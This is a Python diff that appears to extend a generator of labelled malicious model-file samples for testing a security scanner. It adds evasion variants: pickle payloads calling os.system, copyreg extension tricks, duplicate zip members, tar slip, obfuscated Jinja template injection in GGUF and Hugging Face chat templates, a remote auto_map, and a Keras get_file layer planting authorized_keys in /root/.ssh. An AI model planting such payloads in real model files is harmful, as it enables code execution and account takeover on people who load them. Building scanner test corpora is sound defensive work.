@@ -80,6 +80,7 @@ def build(w: Writer) -> None:
     _c_streams(w)
     _d_containers(w)
     _e_formats(w)
+    _extra(w)
 
 
 # ----------------------------------------------------------------------------------------------------------
@@ -795,3 +796,138 @@ def _e_formats(w: Writer) -> None:
     w.folder("hf_malicious_pytorch_bin", {"config.json": json.dumps({"model_type": "bert"}),
                                           "pytorch_model.bin": F.torch_zip_with_pickle(INNER)},
              "E-repo", "ordinary-looking HF folder whose pytorch_model.bin data.pkl calls os.system")
+
+
+# ----------------------------------------------------------------------------------------------------------
+# Second wave: variants meant to find gaps (evasions of the obvious checks), still one class each
+# ----------------------------------------------------------------------------------------------------------
+
+def _extra(w: Writer) -> None:
+    evil2 = reduce_pickle("os", "system", CMD, protocol=2)
+
+    # Extension registry: the global is only ever named as string arguments, then resolved by EXT1
+    ops = (gcall("copyreg", "add_extension", "os", "system", 0xF0) + POP
+           + b"\x82\xf0" + enc((CMD,)) + REDUCE)
+    w.file("bx_copyreg_extension_ext1", "model.pkl", stream(ops, protocol=2), "B-ext",
+           "copyreg.add_extension('os','system',240) then EXT1 240 resolves os.system without a GLOBAL")
+
+    # Real torch.save / joblib.dump output carrying a __reduce__ object among real tensors / arrays
+    import joblib
+    import numpy as np
+    import torch
+
+    w.write_with("ctl_torch_save_with_reduce", "pytorch_model.bin",
+                 lambda p: torch.save({"weight": torch.zeros(3), "hook": Reduce(os.system, (CMD,))}, p),
+                 "control", "real torch.save of a state dict with a __reduce__ object among tensors")
+    w.write_with("d8_joblib_dump_object_array", "model.joblib",
+                 lambda p: joblib.dump({"emb": np.zeros(4), "meta": np.array([Reduce(os.system, (CMD,))],
+                                                                            dtype=object)}, p, compress=3),
+                 "D8", "real joblib.dump(compress=3) of an object array holding a __reduce__ object")
+
+    # Legacy torch: payload in the sys_info pickle
+    magic = pickle.dumps(TORCH_MAGIC, protocol=2)
+    w.file("c4_legacy_torch_sys_info", "model.pt",
+           magic + pickle.dumps(TORCH_PROTOCOL, protocol=2) + evil2 + pickle.dumps({}, protocol=2)
+           + pickle.dumps([], protocol=2), "C4", "legacy torch: the third (sys_info) pickle is the payload")
+
+    # Zip: two central-directory entries named archive/data.pkl, benign first, malicious second
+    members = [("archive/data.pkl", pickle.dumps({"w": 1}, protocol=2)), ("archive/data.pkl", evil2),
+               ("archive/version", b"3\n")]
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as zf:
+        import warnings
+
+        with warnings.catch_warnings():
+            warnings.simplefilter("ignore")
+            for n, d in members:
+                zf.writestr(zipfile.ZipInfo(n, date_time=(2024, 1, 1, 0, 0, 0)), d)
+    w.file("d4_zip_duplicate_data_pkl", "model.pt", buf.getvalue(), "D4",
+           "two members named archive/data.pkl; the second carries the payload")
+
+    # Tar slip
+    tbuf = io.BytesIO()
+    with tarfile.open(fileobj=tbuf, mode="w") as tf:
+        for n, d in (("model/config.json", b"{}"), ("../../../tmp/wb-bypass.sh", b"#!/bin/sh\necho bypass\n")):
+            ti = tarfile.TarInfo(n)
+            ti.size = len(d)
+            ti.mode = 0o755
+            tf.addfile(ti, io.BytesIO(d))
+    w.file("d7_tar_slip", "model.tar", tbuf.getvalue(), "D7", "tar member path climbs out with ../")
+
+    # GGUF SSTI evasions of attribute-name matching
+    base = {"general.architecture": "llama", "general.name": "tiny", "general.alignment": 32,
+            "tokenizer.ggml.model": "gpt2", "tokenizer.ggml.tokens": ["<s>", "</s>"]}
+    tensor = [("tok_embd.weight", (2, 2), struct.pack("<4f", 0, 0, 0, 0))]
+    concat = ("{{ ((cycler|attr('__in' ~ 'it__'))|attr('__glo' ~ 'bals__'))['os'].popen('id').read() }}"
+              "{% for m in messages %}{{ m.content }}{% endfor %}")
+    hexesc = ("{{ lipsum['\\x5f\\x5fglobals\\x5f\\x5f']['os'].popen('id').read() }}"
+              "{% for m in messages %}{{ m.content }}{% endfor %}")
+    w.file("e4_gguf_ssti_attr_concat", "model.gguf",
+           F.gguf_bytes({**base, "tokenizer.chat_template": concat}, tensor), "E4",
+           "SSTI through |attr() with names built by ~ concatenation")
+    w.file("e4_gguf_ssti_hex_escape", "model.gguf",
+           F.gguf_bytes({**base, "tokenizer.chat_template": hexesc}, tensor), "E4",
+           "SSTI with \\x5f-escaped dunder names in a subscript")
+    w.file("e4_gguf_ssti_named_template", "model.gguf",
+           F.gguf_bytes({**base, "tokenizer.chat_template": "{% for m in messages %}{{ m.content }}{% endfor %}",
+                         "tokenizer.chat_template.tool_use": "{{ cycler.__init__.__globals__.os.popen('id').read() }}"},
+                        tensor), "E4", "benign default template, SSTI in the named template tokenizer.chat_template.tool_use")
+
+    # HF chat templates outside GGUF
+    st = F.safetensors_from_arrays({"w": np.zeros((2, 2), dtype="float32")})
+    w.folder("hf_tokenizer_config_ssti", {"config.json": json.dumps({"model_type": "llama"}),
+                                          "tokenizer_config.json": json.dumps({"chat_template": concat}),
+                                          "model.safetensors": st},
+             "E4", "tokenizer_config.json chat_template with SSTI")
+    w.folder("hf_chat_template_jinja_ssti", {"config.json": json.dumps({"model_type": "llama"}),
+                                             "tokenizer_config.json": json.dumps({"model_max_length": 128}),
+                                             "chat_template.jinja": "{{ lipsum.__globals__['os'].popen('id').read() }}\n",
+                                             "model.safetensors": st},
+             "E4", "chat_template.jinja file with SSTI")
+    w.folder("hf_auto_map_other_repo", {"config.json": json.dumps(
+        {"model_type": "llama", "auto_map": {"AutoModelForCausalLM": "attacker/evil-code--modeling_evil.EvilModel"}}),
+        "model.safetensors": st}, "E-repo", "auto_map pulls remote code from another repository")
+
+    # Keras: Lambda inside a wrapper layer; function referenced by name (get_file download); TFSMLayer
+    lam = _k3_layer("Lambda", {"name": "lambda", "arguments": {},
+                               "function": {"class_name": "__lambda__",
+                                            "config": {"code": _lambda_b64(), "defaults": None, "closure": None}}})
+    wrapped = _k3_layer("TimeDistributed", {"name": "td", "layer": lam})
+    cfg = _k3_sequential("seq", [_k3_layer("InputLayer", {"batch_shape": [None, 3, 4], "name": "input"}), wrapped])
+    w.file("e2_keras_lambda_in_wrapper", "model.keras", _keras_zip(cfg), "E2",
+           "bytecode Lambda inside a TimeDistributed wrapper's config.layer")
+    get_file = _k3_layer("Lambda", {"name": "fetch", "function": {"module": "keras.utils", "class_name": "function",
+                                                                 "config": "get_file", "registered_name": "get_file"},
+                                    "arguments": {"origin": "http://127.0.0.1:8000/authorized_keys",
+                                                  "cache_dir": "/root/.ssh", "cache_subdir": ".",
+                                                  "fname": "authorized_keys"}})
+    cfg = _k3_sequential("seq", [_k3_layer("InputLayer", {"batch_shape": [None, 4], "name": "input"}), get_file])
+    w.file("e2_keras_lambda_get_file", "model.keras", _keras_zip(cfg), "E2",
+           "Lambda whose function is keras.utils.get_file writing to ~/.ssh (CVE-2025-8747 style)")
+    tfsm = _k3_layer("TFSMLayer", {"name": "tfsm", "filepath": "/tmp/attacker_saved_model",
+                                   "call_endpoint": "serve"})
+    cfg = _k3_sequential("seq", [_k3_layer("InputLayer", {"batch_shape": [None, 4], "name": "input"}), tfsm])
+    w.file("e2_keras_tfsmlayer", "model.keras", _keras_zip(cfg), "E2",
+           "TFSMLayer loading an external SavedModel (CVE-2026-1462 style)")
+
+    import h5py
+
+    legacy_nested = {"class_name": "Functional", "config": {"name": "outer", "layers": [
+        {"class_name": "InputLayer", "name": "in", "config": {"batch_input_shape": [None, 4], "name": "in"},
+         "inbound_nodes": []},
+        {"class_name": "Sequential", "name": "inner", "config": {"name": "inner", "layers": [
+            {"class_name": "Lambda", "config": {"name": "lambda", "function": [_lambda_b64(), None, None],
+                                                "function_type": "lambda", "module": "__main__",
+                                                "arguments": {}}}]},
+         "inbound_nodes": [[["in", 0, 0, {}]]]},
+    ], "input_layers": [["in", 0, 0]], "output_layers": [["inner", 0, 0]]}}
+
+    def write_h5(path: Any) -> None:
+        with h5py.File(path, "w") as h:
+            h.attrs["keras_version"] = "2.15.0"
+            h.attrs["backend"] = "tensorflow"
+            h.attrs["model_config"] = json.dumps(legacy_nested).encode()  # stored as bytes, not str
+            h.create_group("model_weights")
+
+    w.write_with("e2_keras_h5_nested_lambda", "model.h5", write_h5, "E2",
+                 "legacy .h5: Lambda inside a nested Sequential of a Functional model, config stored as bytes")
